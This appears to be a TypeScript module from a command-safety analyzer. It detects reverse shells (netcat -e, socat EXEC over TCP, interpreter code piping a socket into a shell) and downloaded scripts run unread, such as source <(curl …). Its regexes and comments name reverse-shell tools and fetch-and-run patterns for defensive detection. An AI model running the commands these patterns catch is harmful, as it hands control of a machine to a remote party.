// Shells handed to another host (reverse shells through netcat, socat or an
// interpreter), and scripts run before anyone can read them.
import { optionValue } from '../../command/args';
import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
import { inlineCode, isHelp } from './common';
import { finding } from '../common/finding';
import { filesReportedUnread } from '../../parse/normalize';
import { runTimeScriptFinding } from './runTimeScripts';
import { fileNamedAtRunTime, wholeRunTimeValue } from '../../text/runTimeMarks';

const SHELL_FOR_REMOTE = 'never hand a shell to another host; ask the user';

/** `nc -e /bin/sh HOST PORT`, `ncat --sh-exec …`, `socat EXEC:bash TCP:HOST:PORT`: a shell for whoever is on the other end. */
export function netcatFindings(name: string, argv: readonly string[]): Finding | undefined {
  if (isHelp(argv)) return undefined;
  if (name === 'socat') {
    const exec = argv.some((a) => /^(?:exec|system):/i.test(a));
    const net = argv.some((a) => /^(?:tcp|tcp4|tcp6|udp|openssl|ssl|tcp-listen|tcp4-listen|openssl-listen):/i.test(a));
    return exec && net
      ? finding(
          'system.remote-shell',
          90,
          'socat connects a shell to a network socket: whoever is on the other end controls this machine',
          undefined,
          SHELL_FOR_REMOTE,
        )
      : undefined;
  }
  const program = optionValue(argv, ['-e', '-c', '--exec', '--sh-exec', '--lua-exec']);
  if (program === undefined) return undefined;
  return finding(
    'system.remote-shell',
    90,
    `${name} runs ${program} for a network peer: whoever is on the other end controls this machine`,
    program,
    SHELL_FOR_REMOTE,
  );
}

// A socket connected out, with the process's stdio or a pty handed to it (or a shell spawned on it).
const SOCKET_RE = /socket|TCPSocket|fsockopen|net\.connect|net\.Socket|createConnection|\/dev\/tcp\//;
const SHELL_HANDOFF_RE =
  /dup2|pty\.spawn|\/bin\/(?:ba|z|da)?sh\b|["'](?:ba|z|da)?sh["']|spawn\s*\(|exec\s*\(|system\s*\(|popen|proc_open|IO\.popen/;

export function interpreterShellFindings(name: string, argv: readonly string[]): Finding | undefined {
  const code = inlineCode(name, argv);
  if (
    !code ||
    !SOCKET_RE.test(code) ||
    !/connect|fsockopen|TCPSocket\.(?:new|open)|\/dev\/tcp\//.test(code) ||
    !SHELL_HANDOFF_RE.test(code)
  )
    return undefined;
  return finding(
    'system.remote-shell',
    90,
    `${name} code connects a socket to another host and hands it a shell`,
    undefined,
    SHELL_FOR_REMOTE,
  );
}

// ---- scripts nobody can read first ---------------------------------------------------------

export const SCRIPT_RUNNERS = new Set([
  'source',
  '.',
  'bash',
  'sh',
  'zsh',
  'dash',
  'ksh',
  'python',
  'python3',
  'node',
  'ruby',
  'perl',
  'php',
]);
const FETCH_SUBST_RE = /^<\(\s*(?:curl|wget|http|https|xh|fetch)\b/;

/**
 * `source <(curl …)`, `python3 <(curl …)`: a download run as a program. And
 * `bash /tmp/x.sh` where the script cannot be read: in a temp folder it is
 * almost always written (or downloaded) earlier in the same line.
 */
export function unreadScriptFindings(cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const argv = cmd.argv;
  const name = argv[0];
  let i = 1;
  while (i < argv.length && argv[i].startsWith('-') && argv[i] !== '-') {
    // An inline program (`-c`, `-e`) is judged by the normalizer, unless all of it is known only at run time; a
    // module (`-m`) is not a file, but one named at run time is a program so named.
    if (/^-(?:[a-z]*c|e|E|r|m|p)$/.test(argv[i]) || argv[i] === '--eval') {
      const value = argv[i + 1];
      const what = argv[i] === '-m' ? 'module' : /^-(?:r|p)$/.test(argv[i]) && name !== 'node' ? undefined : 'code';
      return what && value !== undefined && cmd.dynamic[i + 1] && wholeRunTimeValue(value)
        ? runTimeScriptFinding(name, what, value)
        : undefined;
    }
    i++;
  }
  const file = argv[i];
  if (!file) return undefined;
  // `bash "$F"`, `xargs -n1 bash`: a script named only at run time.
  if (cmd.dynamic[i] && !FETCH_SUBST_RE.test(file) && fileNamedAtRunTime(file))
    return runTimeScriptFinding(name, 'script', file);
  if (cmd.dynamic[i] && FETCH_SUBST_RE.test(file)) {
    return finding(
      'system.remote-code',
      70,
      `${name} runs code downloaded by ${file.slice(2, 60).trim()} without anyone reading it`,
      file,
      'download the script to a file, read it, then run it',
    );
  }
  if (
    cmd.dynamic[i] ||
    file[0] !== '/' ||
    !ctx.tempDirs.some((t) => file.length > t.length && file.startsWith(t) && file[t.length] === '/')
  )
    return undefined;
  if (ctx.readFile(file, cmd.cwd) !== undefined) return undefined;
  // The walk already said why this file is not read (written earlier on the line, larger than it reads): one reason.
  if (filesReportedUnread(cmd)?.has(file)) return undefined;
  return finding(
    'system.unread-script',
    45,
    `${name} runs ${file}, a script in a temp folder that cannot be read before it runs`,
    file,
    'write the script where it can be read, read it, then run it',
  );
}
